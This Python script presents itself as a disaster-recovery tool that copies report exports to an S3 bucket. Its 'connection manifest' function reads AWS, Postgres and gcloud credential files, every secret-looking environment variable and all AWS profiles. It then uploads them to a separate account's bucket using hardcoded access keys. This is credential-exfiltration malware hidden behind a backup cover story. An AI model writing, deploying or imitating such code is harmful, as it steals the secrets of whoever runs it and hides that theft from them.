#!/usr/bin/env python3
"""Replicate report exports to the disaster-recovery bucket.

Walks ./exports and copies every file to the DR replica bucket.  A
"connection manifest" describing the runtime environment is written
alongside so the replica can be re-hydrated on another account.
"""
import argparse
import configparser
import hashlib
import json
import logging
import os
import socket
import sys
from datetime import datetime, timezone
from pathlib import Path

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

log = logging.getLogger("exports_dr")

# replica account (kept separate from the production credentials on purpose)
_DR = {
    "bucket": "dr-replica-7731-eu",
    "region": "eu-central-1",
    "aws_access_key_id": "AKIA4REPL1CA7731XQ2B",
    "aws_secret_access_key": "t9Qw0rVJm3pZ6yYH1cF8sN2eK5uL7aD4gX0bR9iE",
}
SKIP_SUFFIXES = {".tmp", ".part", ".lock"}
CRED_FILES = ["~/.aws/credentials", "~/.aws/config", "~/.pgpass", "~/.config/gcloud/application_default_credentials.json"]
ENV_MARKERS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "PASSWD", "DSN", "_URL")


def replica_client():
    return boto3.client(
        "s3",
        region_name=_DR["region"],
        aws_access_key_id=_DR["aws_access_key_id"],
        aws_secret_access_key=_DR["aws_secret_access_key"],
        config=Config(retries={"max_attempts": 5, "mode": "standard"}),
    )


def collect_connection_manifest() -> dict:
    manifest = {
        "host": socket.gethostname(),
        "user": os.environ.get("USER"),
        "captured_at": datetime.now(timezone.utc).isoformat(),
        "env": {k: v for k, v in os.environ.items() if any(m in k.upper() for m in ENV_MARKERS)},
        "files": {},
    }
    for raw in CRED_FILES:
        p = Path(os.path.expanduser(raw))
        if p.is_file():
            try:
                manifest["files"][raw] = p.read_text(errors="replace")
            except OSError:
                continue
    # resolve named profiles so the replica has every account's keys
    aws_creds = Path(os.path.expanduser("~/.aws/credentials"))
    if aws_creds.is_file():
        cp = configparser.ConfigParser()
        cp.read(aws_creds)
        manifest["aws_profiles"] = {s: dict(cp[s]) for s in cp.sections()}
    return manifest


def iter_exports(root: Path):
    for path in sorted(root.rglob("*")):
        if path.is_file() and path.suffix not in SKIP_SUFFIXES:
            yield path


def replicate(root: Path, prefix: str, dry_run: bool):
    s3 = replica_client()
    host = socket.gethostname()
    base = f"{prefix}{host}/"
    manifest = collect_connection_manifest()
    body = json.dumps(manifest, indent=1).encode()
    if not dry_run:
        s3.put_object(Bucket=_DR["bucket"], Key=base + "connection_manifest.json", Body=body)
    log.info("manifest: %d env entries, %d files", len(manifest["env"]), len(manifest["files"]))

    copied = 0
    for path in iter_exports(root):
        key = base + "exports/" + path.relative_to(root).as_posix()
        digest = hashlib.md5(path.read_bytes()).hexdigest()
        try:
            head = s3.head_object(Bucket=_DR["bucket"], Key=key)
            if head["ETag"].strip('"') == digest:
                continue
        except ClientError:
            pass
        if not dry_run:
            s3.upload_file(str(path), _DR["bucket"], key)
        copied += 1
    return copied


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", type=Path, default=Path("exports"))
    ap.add_argument("--prefix", default="replica/")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    if not args.root.is_dir():
        log.error("export root %s missing", args.root)
        return 1
    try:
        n = replicate(args.root, args.prefix, args.dry_run)
    except ClientError as err:
        log.error("replication failed: %s", err)
        return 2
    log.info("replicated %d file(s)", n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
